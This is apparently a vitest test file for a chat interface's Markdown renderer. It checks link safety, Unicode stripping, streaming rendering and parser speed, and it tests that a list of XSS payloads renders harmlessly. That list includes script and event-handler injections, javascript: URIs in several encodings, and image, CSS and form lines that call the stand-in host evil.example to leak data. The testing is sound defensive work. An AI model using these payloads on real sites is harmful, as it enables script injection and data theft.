import fc from "fast-check";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { Markdown } from "../../../chatui/src/chat/markdown.tsx";
import { parseBlocks } from "../../../chatui/src/chat/parse-blocks.ts";
import { parseInline } from "../../../chatui/src/chat/parse-inline.ts";

function render(text: string): string {
  return renderToStaticMarkup(createElement(Markdown, { text }));
}

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<form action=https://evil.example><input name=q></form>",
  "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  '[x](https://ok.example "onmouseover=alert(1)")',
  '[x](https://ok.example/"onmouseover="alert(1))',
  "![x](https://evil.example/?q=secret)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "[![x](https://evil.example/p.png)](https://ok.example)",
  "![x][y]\n\n[y]: https://evil.example/?q=secret",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "# <script>alert(1)</script>",
  "- <svg onload=alert(1)>\n- [x](javascript:alert(1))",
];

/** What the markup of a safe text may hold: no element that runs, loads or sends, no handler, no other scheme. */
function dangers(page: string): string[] {
  // Our own button to copy code; what a text says is never a tag.
  const html = page.replace(/<button.*?<\/button>/g, "");
  return [
    ...(html.match(
      /<(?:script|img|svg|iframe|style|form|input(?! type="checkbox")|math|object|embed|link|meta|base|video)\b/gi,
    ) ?? []),
    ...(html.match(
      /<[^>]*\s(?:on\w+|src|srcset|style(?!="text-align:(?:start|center|end)")|action|formaction|xlink:href)\s*=/gi,
    ) ?? []),
    ...[...html.matchAll(/href="([^"]*)"/gi)].flatMap(([, href = ""]) =>
      /^(?:https?:|mailto:)/.test(href) ? [] : [href],
    ),
  ];
}

test.each(PAYLOADS)("T37 T38 %j runs nothing, loads nothing and links nowhere odd", (payload) => {
  expect(dangers(render(payload))).toEqual([]);
});

test("T37 no part of a payload is dangerous while it streams in", () => {
  const found = PAYLOADS.flatMap((payload) =>
    Array.from(payload, (_, end) => dangers(render(payload.slice(0, end)))).flat(),
  );
  expect(found).toEqual([]);
});

test("a link opens elsewhere and tells nothing about where it was", () => {
  const html = render("See [the page](https://example.com/a).");
  expect(html).toContain('href="https://example.com/a"');
  expect(html).toContain('rel="noopener noreferrer ugc nofollow"');
  expect(html).toContain('target="_blank"');
});

test("an image is shown by its description only", () => {
  expect(render("![a cat](https://example.com/cat.png)")).toContain("[a cat]");
});

test("T39 what can't be seen, or turns the text after it around, is taken out; emoji and joined scripts stay", () => {
  const html = render(
    "a\u202eb\u200bc\u2066d\u0007\u001b[31mred\u001b[0m \u{e0041}x \u{1f468}\u200d\u{1f469} می\u200cخواهم",
  );
  expect(html).toContain("abcdred x \u{1f468}\u200d\u{1f469} می\u200cخواهم");
});

test("emphasis, code, lists, tasks, quotes, tables and rules are drawn", () => {
  const html = render(
    "## Plan\n\n1. ***one*** and `two`\n   - deep\n2. [x] no task\n\n- [x] done\n- [ ] open\n\n> said\n\n---\n\n| a | b |\n|:-:|--:|\n| 1 | **2** |\n| 3 |",
  );
  expect(html).toContain("<strong><em>one</em></strong> and <code>two</code>");
  expect(html).toMatch(/<ol start="1">.*<ul><li[^>]*><span dir="auto">deep/);
  expect(html.match(/type="checkbox"/g)).toHaveLength(3);
  expect(html).toMatch(/<blockquote.*said.*<hr\/?>/);
  expect(html).toMatch(/<td dir="auto" style="text-align:end"><strong>2<\/strong><\/td>/);
});

test("an address in a text is a link, without the sentence's end; snake_case and 2 * 3 stay as they are", () => {
  const html = render("See https://example.com/a_b?x=1. snake_case_name is 2 * 3 * 4.");
  expect(html).toContain('href="https://example.com/a_b?x=1"');
  expect(html).toContain("</a>. snake_case_name is 2 * 3 * 4.");
});

test("while a text streams in, what it begins is shown as it will be", () => {
  const streaming = (text: string) =>
    renderToStaticMarkup(createElement(Markdown, { text, streaming: true }));
  expect(streaming("so **bo")).toContain("<strong>bo</strong>");
  expect(streaming("run `npm")).toContain("<code>npm</code>");
  expect(streaming("see [the page](https://exa")).toContain(">see the page<");
  expect(render("so **bo")).toContain("so **bo");
});

const MARKS = [
  "*",
  "**",
  "_",
  "`",
  "```",
  "[",
  "]",
  "(",
  ")",
  "!",
  "<",
  ">",
  "|",
  "-",
  "1. ",
  "# ",
  "\n",
  "\n\n",
  "  ",
  "\\",
  "&#58;",
  "https://a.b",
  "javascript:",
  "~~",
  "a",
  "\u202e",
];

test("T37 T39 no text of marks breaks it, is dangerous, or is drawn in another way when drawn again", () => {
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...MARKS), { maxLength: 60 }), (list) => {
      const html = render(list.join(""));
      expect(dangers(html)).toEqual([]);
      expect(render(list.join(""))).toBe(html);
    }),
    { numRuns: 300 },
  );
});

test("T37 what is repeated without an end is read in a time that grows with its length alone", () => {
  for (const repeated of [...MARKS, "://", "a://", "[a](", "` ``", "*a **b ", "|a|\n|-|\n", "> - ", "<a"]) {
    const text = repeated.repeat(400_000 / repeated.length);
    parseBlocks(text);
    parseInline(text);
    parseInline(text, true);
  }
}, 20_000);
